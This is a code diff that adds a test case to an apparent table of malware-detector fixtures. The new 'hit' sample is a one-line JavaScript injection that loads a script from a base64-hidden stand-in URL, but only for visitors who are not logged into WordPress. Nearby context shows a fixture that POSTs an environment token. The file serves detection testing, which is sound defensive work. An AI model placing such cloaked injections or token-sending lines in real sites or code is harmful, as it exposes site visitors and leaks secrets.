@@ -14,6 +14,7 @@ import { htmlHidesWhereItLeads } from '../html/html-hides-where-it-leads.ts'
 import { packageRunsFetchedCode } from '../installer/package-runs-fetched-code.ts'
 import { pickleRunsCode } from '../installer/pickle-runs-code.ts'
 import { scriptSendsSecretsAway } from './credentials/script-sends-secrets-away.ts'
+import { scriptAddsHiddenScript } from './download/script-adds-hidden-script.ts'
 import { scriptEncryptsFiles } from './impact/script-encrypts-files.ts'
 
 interface Table {
@@ -90,6 +91,21 @@ const TABLES: readonly Table[] = [
       'one variable of the environment': script(
         'javascript',
         'fetch("https://api.example/v1", { method: "POST", headers: { authorization: process.env.TOKEN } })',
+      ),
+    },
+  },
+  {
+    detector: scriptAddsHiddenScript,
+    hits: {
+      'for visitors who come from elsewhere': script(
+        'javascript',
+        'if (d.cookie.indexOf("wordpress_logged") < 0) { var e = d.createElement("script"); e.src = atob("aHR0cHM6Ly94LmV4YW1wbGUv"); d.head.appendChild(e) }',
+      ),
+    },
+    misses: {
+      'statistics, in the open': script(
+        'javascript',
+        'var e = document.createElement("script"); e.src = "https://stats.example/" + "a.js"; document.head.appendChild(e)',
       ),
     },
   },
